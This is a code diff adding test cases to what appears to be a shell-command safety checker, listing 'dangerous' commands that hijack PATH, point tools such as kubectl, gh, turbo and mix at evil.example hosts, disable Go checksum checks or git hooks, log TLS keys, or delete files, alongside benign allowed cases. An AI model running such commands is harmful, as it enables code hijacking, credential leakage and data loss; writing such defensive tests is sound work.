@@ -1,8 +1,36 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell expansions, not templates
 import type { BypassClass } from "../../support/bypass-class.ts";
 
 /** C. Assignments before a command: plain ones must not hide it, some change what it runs. */
 export const ENVIRONMENT = {
   dangerous: [
+    "for PATH in /tmp/evil; do git status; done",
+    "read 'PATH' <<< /tmp/evil; git status",
+    "x=PATH; read $x <<< /tmp/evil; git status",
+    'export "PATH=/tmp/evil:$PATH"; git status',
+    "declare 'PATH=/tmp/evil'; git status",
+    "export P\\ATH=/tmp/evil; git status",
+    "builtin export PATH=/tmp/evil; git status",
+    "export $(cat settings.txt); git status",
+    "unset PATH; : ${PATH:=/tmp/evil}; git status",
+    "printf -vPATH /tmp/evil; git status",
+    'f=README.md; declare "f=.env"; cat $f',
+    "path=(/tmp/evil $path); git status",
+    "commands[git]=/tmp/evil; git status",
+    "READNULLCMD=sh; < notes.sh",
+    "KUBECONFIG=/tmp/evil.yaml; kubectl get pods",
+    "KUBECONFIG=evil.yaml kubectl get pods",
+    "TURBO_BINARY_PATH=/tmp/evil turbo build",
+    "TURBO_API=https://evil.example turbo build",
+    "GOSUMDB=off go mod download",
+    "GOENV=evil.env go build ./...",
+    "RUSTC=evil cargo build",
+    "TERMINFO=evil tput init",
+    "HUSKY=0 git commit -m x",
+    "SSLKEYLOGFILE=keys.log npm ci",
+    "HEX_MIRROR=evil.example mix deps.get",
+    "GH_HOST=evil.example gh api user",
+    "MAGIC=evil file README.md",
     // plain assignments before something dangerous
     "FOO=bar rm -rf src",
     "A=1 B=2 C=3 git clean -fdx",
@@ -104,6 +132,12 @@ export const ENVIRONMENT = {
     "PORT=3000 npm run dev",
   ],
   allowed: [
+    "export NAME; echo done",
+    "for name in a b; do echo $name; done",
+    "GOOS=linux go build ./...",
+    "TURBO_FORCE=1 turbo build",
+    "read -r NAME < README.md; echo done",
+    "unset NAME; echo done",
     "echo PATH=/tmp/evil",
     "echo 'LD_PRELOAD=/tmp/evil.so ls'",
     "grep -rn NODE_OPTIONS src",
